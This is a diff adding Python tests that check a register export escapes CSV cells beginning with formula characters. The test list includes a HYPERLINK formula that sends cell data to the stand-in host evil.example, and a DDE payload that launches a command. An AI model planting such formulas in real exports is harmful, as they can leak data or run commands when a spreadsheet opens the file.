@@ -4,6 +4,7 @@ the seeded register."""
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import struct
 from datetime import UTC, date, datetime
@@ -193,3 +194,43 @@ def test_calendar_folds_long_lines_at_75_octets_without_splitting_characters() -
         line.decode("utf-8")  # each folded line is whole characters
     event = next(iter(icalendar.Calendar.from_ical(text).walk("VEVENT")))
     assert str(event["SUMMARY"]) == f"[{REF['A']}] {title}"
+
+
+#: Text a spreadsheet would run as a formula, one for each dangerous first character (OWASP).
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_text_that_starts_a_formula_is_escaped(
+    data: figures.RegisterData, formula: str
+) -> None:
+    fig = figures.annual(data, YEAR, END, "LSCP")
+    hostile = dataclasses.replace(
+        fig,
+        actions_by_agency=[figures.AgencyActions(formula, 1, 0)],
+        learning=[figures.Count(formula, -3)],  # a negative number stays a number
+    )
+    rows = list(csv.reader(io.StringIO(documents.annual_csv(hostile))))
+    assert ["open actions by agency", f"'{formula}", "1", "", ""] in rows
+    assert ["learning outputs", f"'{formula}", "-3", "", ""] in rows
+    rapid = "Rapid reviews completed within 15 working days"
+    assert ["timeliness", rapid, "2", "3", "66.7"] in rows  # numbers are written as before
+
+    summary = figures.summary(data, date(2027, 1, 1), END, "LSCP")
+    line = dataclasses.replace(summary.reviews[0], partnership=formula, themes=[formula])
+    text = documents.summary_csv(dataclasses.replace(summary, reviews=[line]))
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["partnership"] == f"'{formula}" and row["themes"] == f"'{formula}"
+    assert row["case_ref"] == summary.reviews[0].case_ref  # ordinary text is unchanged
+
+
+def test_csv_text_that_is_safe_is_unchanged() -> None:
+    for text in ("Health (ICB)", "2027-01-31", "O'Brien", "a=b", "", "3"):
+        assert documents.csv_text(text) == text
